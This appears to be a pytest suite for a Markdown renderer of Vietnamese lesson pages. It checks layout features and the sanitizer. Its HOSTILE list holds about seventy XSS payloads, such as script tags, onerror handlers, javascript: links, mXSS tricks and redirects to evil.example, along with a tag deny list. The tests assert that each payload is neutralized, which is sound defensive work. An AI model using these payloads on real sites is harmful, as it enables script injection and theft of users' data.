"""A material's body: what a teacher writes becomes a lesson, and what a stranger writes becomes harmless."""

import re
from html.parser import HTMLParser
from itertools import permutations
from typing import Any
from urllib.parse import urlsplit

import pytest

from generator.pages.job import Job, Page, Picture
from generator.pages.render import render
from generator.pages.sanitize import ATTRIBUTES, TAGS, sanitize

WORDS = (("answer", "Xem đáp án"), ("model-answer", "Xem gợi ý"), ("table", "Bảng"))
LEVELS = (("nb", "Nhận biết"), ("vd", "Vận dụng"))


def page(text: str, **facts: Any) -> Page:
    """A rendered body."""
    return render(Job(text, **{"words": WORDS, "levels": LEVELS, **facts}))


def html(text: str, **facts: Any) -> str:
    """The HTML of a body."""
    return page(text, **facts).html


# What a lesson looks like


def test_an_answer_folds_and_a_model_answer_folds_under_its_own_name() -> None:
    made = html("> **Đáp án: A.** Vì 2 > 1.\n\n> **Gợi ý trả lời:** Em nêu hai ý.\n")

    assert made.count('<details class="hl-answer">') == made.count("</details>") == 2
    assert "<summary>Xem đáp án</summary>" in made
    assert "<summary>Xem gợi ý</summary>" in made
    assert "<strong>Đáp án: A.</strong> Vì 2 &gt; 1." in made


def test_a_quotation_that_is_no_answer_stays_a_quotation() -> None:
    made = html("> Học, học nữa.\n\n> **Lưu ý.** Cẩn thận.\n\n> Chú ý: **Đáp án: A.**\n")

    assert "<details" not in made
    assert made.count("<blockquote>") == 2
    assert made.count('<blockquote class="hl-callout">') == 1


def test_a_quotation_within_an_answer_closes_where_it_should() -> None:
    made = html("> **Đáp án: A.**\n>\n> > Trích dẫn.\n>\n> Hết.\n")

    assert re.sub(r"\s+", "", made).endswith("</p></blockquote><p>Hết.</p></details>")


def test_a_question_says_its_level_in_words() -> None:
    made = html("**Câu 1 (nb).** Một?\n\n**Câu 2 (vd)** Hai?\n\n**Câu 3.** Ba?\n\n**Câu 4 (xx).** Bốn?\n")

    assert re.findall(r"<strong>Câu (\d)\.</strong>(?: <span class=\"hl-level\">([^<]*)</span>)?", made) == [
        ("1", "Nhận biết"),
        ("2", "Vận dụng"),
        ("3", ""),
        ("4", ""),
    ]
    assert made.count('<p class="hl-question">') == 4


def test_a_table_scrolls_in_a_region_and_is_aligned_without_styles() -> None:
    made = html("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n")

    assert '<section class="hl-table" tabindex="0" aria-label="Bảng"><table>' in made
    assert made.count("</table></section>") == 1
    assert [made.count(f'class="hl-{side}"') for side in ("left", "center", "right")] == [2, 2, 2]
    assert "style=" not in made


def test_no_two_tables_of_a_lesson_have_one_name() -> None:
    table = "| a |\n|---|\n| 1 |\n\n"

    assert re.findall(r'<section [^>]*aria-label="([^"]*)">', html(table + table)) == ["Bảng 1", "Bảng 2"]


def test_headings_have_anchors_of_their_own_and_stand_in_the_contents() -> None:
    made = page("## Nội dung\n\n### Số *nguyên* & <b>dương</b>\n\n## Nội dung\n")

    assert [(item.level, item.text) for item in made.toc] == [(2, "Nội dung"), (3, "Số nguyên & dương"), (2, "Nội dung")]
    assert len({item.anchor for item in made.toc}) == 3
    assert re.findall(r'<h\d id="([^"]+)">', made.html) == [item.anchor for item in made.toc]


def test_a_picture_has_its_size_and_all_but_the_first_wait_until_they_are_seen() -> None:
    made = html(
        "![Tia số](hinh/tia-so.svg)\n\n![Lại](hinh/tia-so.svg)", pictures=(("hinh/tia-so.svg", Picture("../hinh/tia-so.svg", 320, 80)),)
    )

    assert '<img src="../hinh/tia-so.svg" width="320" height="80" decoding="async" alt="Tia số">' in made
    assert '<img src="../hinh/tia-so.svg" width="320" height="80" loading="lazy" decoding="async" alt="Lại">' in made


def test_a_picture_in_several_widths_lets_the_phone_choose() -> None:
    made = html("![Thước](a.jpg)", pictures=(("a.jpg", Picture("../a-720.webp", 720, 480, "../a-360.webp 360w, ../a-720.webp 720w")),))

    assert 'srcset="../a-360.webp 360w, ../a-720.webp 720w" sizes="(max-width: 34rem) 92vw, 30rem" width="720" height="480"' in made


def test_a_picture_whose_size_is_not_known_claims_none() -> None:
    made = html("![Tia số](a.svg)", pictures=(("a.svg", Picture("../a.svg")),))

    assert "width" not in made
    assert 'src="../a.svg"' in made


@pytest.mark.parametrize("source", ["https://example.com/x.png", "//example.com/x.png", "data:image/png;base64,AAAA", "khong-co.png"])
def test_a_picture_that_is_not_the_librarys_loses_its_source_and_keeps_its_words(source: str) -> None:
    made = html(f"![Tia số]({source})")

    assert "src=" not in made
    assert 'alt="Tia số"' in made


def test_links_are_mapped_and_one_to_an_unpublished_material_is_shown_without_a_link() -> None:
    links = (("bai-02.md", "../bai-02/#a&b"), ("nhap.md", ""))

    made = html("[Hai](bai-02.md) [Nháp](nhap.md) [Ngoài](https://example.com/?a=1&b=2)", links=links)

    assert '<a href="../bai-02/#a&amp;b">Hai</a>' in made
    assert "<a>Nháp</a>" in made
    assert '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer">Ngoài</a>' in made


def test_footnotes_lead_to_each_other() -> None:
    made = html("Một[^1].\n\n[^1]: Chú thích.\n")

    (target,) = re.findall(r'<a href="#([^"]+)">', made)
    assert f'id="{target}"' in made


def test_the_text_for_search_is_what_a_reader_reads() -> None:
    made = page("## Tập hợp\n\nMột **hai**<br>ba &amp; 2 < 3\n\n- bốn\n- năm\n\n![Tia số](a.svg)\n")

    assert made.text == "Tập hợp Một hai ba & 2 < 3 bốn năm Tia số"


# Purity

BODIES = (
    "## A\n\n> **Đáp án: A.**",
    "## A\n\n[^1]\n\n[^1]: x",
    "## A\n\n## A",
    "| a |\n|---|\n| 1 |",
    "[x](y.md)",
    "<div><p>không đóng",
    "",
)


def test_neither_order_nor_company_of_jobs_matters() -> None:
    alone = {text: page(text) for text in BODIES}

    for order in permutations(BODIES, 3):
        assert [page(text) for text in order] == [alone[text] for text in order]


# Strangers


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img alt="><script>alert(1)</script>" src=x>',
    "<img alt='\" onerror=\"alert(1)' src=x>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a title=\'" onmouseover="alert(1)\' href="#">x</a>',
    '<a href="#" target="_blank" ping="https://evil.example" onclick="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](a.png)',
    "[x](a.md '\" onclick=\"alert(1)')",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=p><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<table><tr><td style='text-align:center;background:url(https://evil.example)'>x</td></tr></table>",
    "<table><tr><td style='text-align:left\"onclick=\"alert(1)'>x</td></tr></table>",
    "<p class='hl-answer hl-header' id='main'>x</p>",
    "<div class='hl-table' id='&quot;onclick=&quot;alert(1)'>x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</div></main><script>alert(1)</script>",
    "</details></blockquote></table></body></html><p>x",
    "> **Đáp án: A.**<script>alert(1)</script>",
    "> **Đáp án <img src=x onerror=alert(1)>**",
    '## <a href="javascript:alert(1)" title="</h2><script>alert(1)</script>">x</a>',
    "## <img src=x onerror=alert(1)> x",
    '<a title="<h2>x</h2><blockquote><table>" href="#">x</a>',
    '<a title="</h2><img src=x>" href="#">x</a>',
    "`<script>alert(1)</script>`",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    '```"onclick="alert(1)\nx\n```',
    '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: <script>alert(1)</script>',
    "\ue000content\ue001",
    "| <script>alert(1)</script> | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x onerror=alert(1)> |",
]

OURS = {
    "a": {"rel"},
    "img": {"width", "height", "loading", "decoding"},
    "details": {"class"},
    "blockquote": {"class"},
    "p": {"class"},
    "span": {"class"},
    "div": {"class"},
    "section": {"class", "tabindex", "aria-label"},
    "pre": {"tabindex"},
    "td": {"class"},
    "th": {"class", "scope"},
    "sup": {"class"},
    **{f"h{level}": {"id"} for level in range(1, 7)},
}
"""The attributes that rendering adds itself."""

VOID = {"br", "hr", "img"}
SCHEMES = {"", "http", "https", "mailto", "tel"}
NEVER = {
    "applet",
    "audio",
    "base",
    "button",
    "embed",
    "form",
    "frame",
    "iframe",
    "input",
    "link",
    "math",
    "meta",
    "object",
    "script",
    "select",
    "source",
    "style",
    "svg",
    "textarea",
    "video",
}
"""Tags that no list may ever let through."""


class Reader(HTMLParser):
    """Reads HTML as a browser does and notes whatever a lesson must not hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in NEVER or tag not in TAGS | {"section", "span"}:
            self.found.append(f"<{tag}>")
        if tag not in VOID:
            self.open.append(tag)
        names = (ATTRIBUTES.get(tag, set()) - {"style"}) | OURS.get(tag, set())
        for name, value in attrs:
            if name not in names or name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in {"href", "src"} and not harmless(value or ""):
                self.found.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}> out of order")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}]>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


def harmless(address: str) -> bool:
    """Whether a browser, which drops unseen characters, finds no scheme but those on the list."""
    seen = re.sub(r"[\x00-\x20]", "", address)
    return urlsplit(seen).scheme in SCHEMES


def harm(made: str) -> list[str]:
    """What of a lesson's HTML a browser would take for more than a lesson."""
    reader = Reader()
    reader.feed(made)
    reader.close()
    return [*reader.found, *(f"<{tag}> left open" for tag in reader.open)]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_strangers_markdown_is_made_harmless(text: str) -> None:
    assert harm(html(text)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_it_is_harmless_among_a_lessons_own_pieces_too(text: str) -> None:
    quoted = "\n".join(f"> {line}" for line in text.splitlines())
    listed = "\n".join(f"  {line}" for line in text.splitlines())
    surroundings = f"## Một\n\n> **Đáp án: A.** a\n{quoted}\n\n- b\n\n{listed}\n\n| c |\n|---|\n| d |\n\n**Câu 1 (nb).** {text}"

    assert harm(html(surroundings)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_titles_and_addresses_given_to_rendering_are_escaped(text: str) -> None:
    made = html(
        "[x](a.md) ![y](b.png)\n\n> **Đáp án: A.**\n\n**Câu 1 (nb).** x\n\n| a |\n|---|\n",
        links=(("a.md", text),),
        pictures=(("b.png", Picture(text)),),
        levels=(("nb", text),),
        words=(("answer", text), ("table", text)),
    )

    assert [found for found in harm(made) if not found.startswith(("<a href=", "<img src="))] == []


def test_the_reader_of_these_tests_sees_what_it_should() -> None:
    assert harm("<p onclick='x'>a</p>") == ["<p onclick>"]
    assert harm("<script>x</script>") == ["<script>"]
    assert harm("<a href='java&#10;script:x'>a</a>") != []
    assert harm("<td style='color:red'></td>") == ["<td style>"]
    assert harm("<p>a") == ["<p> left open"]
    assert harm("<!-- a -->") != []


def test_the_form_that_shaping_relies_on_is_canonical() -> None:
    made = sanitize('<A TITLE=">" HREF=\'x onclick=alert(1) <y"\'>a<b title="<img src=">c')

    assert made == '<a title="&gt;" href="x onclick=alert(1) &lt;y&quot;">ac</a>'


def test_a_table_keeps_no_style_and_takes_none_from_a_title() -> None:
    made = html('<table><tr><td style="text-align:justify"><a title=" style=" href="a.md">b</a></td></tr></table>')

    assert '<td><a title=" style=" href="a.md">b</a></td>' in made


@pytest.mark.parametrize("name", ["hl-answer", "hl-header", "md-header", "footnote-definition hl-table"])
def test_a_lesson_cannot_borrow_the_themes_classes(name: str) -> None:
    made = html(f"<p class='{name}'>a</p>\n\n<div class='{name}'>b</div>\n\n<sup class='{name}'>c</sup>")

    assert "hl-" not in made
    assert "md-" not in made


@pytest.mark.parametrize("text", ['a href="x/" b', 'x src="//evil.example/x.js" y', '<p title="1">z id="q"</p>'])
def test_text_never_looks_like_an_attribute(text: str) -> None:
    made = html(f"{text}\n\n`{text}`\n")

    assert re.findall(r'>[^<>]*="[^<>]*<', made) == []
